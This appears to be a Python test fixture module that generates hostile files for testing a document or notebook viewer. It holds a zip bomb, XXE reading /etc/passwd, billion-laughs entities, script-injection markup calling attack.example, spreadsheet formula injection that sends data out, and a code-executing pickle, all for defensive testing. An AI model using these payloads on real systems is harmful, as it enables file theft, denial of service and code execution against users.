"""Files that attack whoever opens them, as a hostile researcher would submit them."""

import io
import json
import pickle
import zipfile
from pathlib import Path

BOMB_BYTES = 200 * 2**20
"""What the zip bomb swells to; some hundred kilobytes as it is sent."""
HARMLESS = "harmless words that a checker reads"
"""In every file that is shown, so that an empty page is not taken for a safe one."""
ENTITIES = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))
_DOCTYPE = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">'
    f'<!ENTITY e0 "lol">{ENTITIES}]>'
)
_SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>120</v></c></row></sheetData></worksheet>'
)
_WORKBOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
)

SCRIPTS = (
    "<script>attack()</script>"
    "<img src=x onerror=attack()>"
    '<a href="javascript:attack()">here</a>'
    '<iframe src="https://attack.example/"></iframe>'
    '<button data-commandlinker-command="terminal:create-new">here</button>'
    '<form action="https://attack.example/"><input name=q></form>'
    '<svg onload=attack()><use href="https://attack.example/#a"/></svg>'
    '<style>@import "https://attack.example/";</style>'
    '<meta http-equiv=refresh content="0;url=https://attack.example/">'
    '<base href="https://attack.example/">'
)
"""Markup that acts, of every kind that a notebook's output can hold."""

ACTIVE = (
    *("<script", "onerror", "onload", "javascript:", "<iframe", "data-commandlinker", "<form"),
    *("<input", "<svg", "<use", "<style", "<meta http-equiv", "<base", "attack.example"),
)
"""What of it must not be in a page as markup."""


def zip_bomb() -> bytes:
    """A workbook of some hundred kilobytes that swells to hundreds of megabytes."""
    swollen = _SHEET.replace("<sheetData>", "<sheetData>" + " " * BOMB_BYTES)
    return _workbook(sheet=swollen)


def entities_workbook() -> bytes:
    """A workbook whose texts are a billion laughs and a file of the machine."""
    strings = (
        f"{_DOCTYPE}<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
        f"<si><t>&secret;&e9; {HARMLESS}</t></si></sst>"
    )
    return _workbook(strings=strings)


def _workbook(sheet: str = _SHEET, strings: str = "") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _RELATIONS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if strings:
            archive.writestr("xl/sharedStrings.xml", strings)
    return written.getvalue()


def entities_picture() -> bytes:
    """A picture whose text is a file of the machine and a billion laughs."""
    return (
        f"{_DOCTYPE}<svg xmlns='http://www.w3.org/2000/svg' width='90' height='20'>"
        f"<text y='15'>&secret;&e9;{HARMLESS}</text></svg>"
    ).encode()


def script_picture() -> bytes:
    """A picture that runs a script and loads from elsewhere."""
    return (
        "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='20' onload='attack()'>"
        f"<script>attack()</script><text y='15'>{HARMLESS}</text>"
        "<image href='https://attack.example/a.png' width='9' height='9'/>"
        "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' "
        "src='https://attack.example/'/></foreignObject></svg>"
    ).encode()


def page() -> bytes:
    """An HTML page that acts."""
    return f"<!doctype html><html><body><p>{HARMLESS}</p>{SCRIPTS}</body></html>".encode()


def markdown() -> bytes:
    """A text in Markdown with HTML in it that acts."""
    return f"# {HARMLESS}\n\n[here](javascript:attack())\n\n{SCRIPTS}\n".encode()


def notebook() -> bytes:
    """A notebook whose outputs and texts attack its reviewer."""
    data = {
        "text/html": f"<p>{HARMLESS}</p>{SCRIPTS}",
        "image/svg+xml": script_picture().decode(),
        "application/javascript": "attack()",
        "text/markdown": f"[here](javascript:attack()) {SCRIPTS}",
    }
    outputs = [
        {"output_type": "display_data", "data": {kind: text}, "metadata": {}}
        for kind, text in data.items()
    ]
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": markdown().decode()},
        {
            "cell_type": "code",
            "metadata": {},
            "source": "attack()",
            "execution_count": 1,
            "outputs": outputs,
        },
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": SCRIPTS},
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 4}).encode()


def formulas() -> bytes:
    """A table that a spreadsheet would run."""
    return (
        b'group,people\n"=HYPERLINK(""https://attack.example/?""&B2,""here"")",120\n'
        b"+cmd|' /C calc'!A0,340\n@SUM(1),560\n"
    )


class Marking:
    """An object whose pickle makes a file when it is loaded."""

    def __init__(self, file: str):
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return (Path.touch, (Path(self.file),))


def pickled(file: str) -> bytes:
    """A pickle that leaves a mark at that place wherever it is loaded."""
    return pickle.dumps(Marking(file))
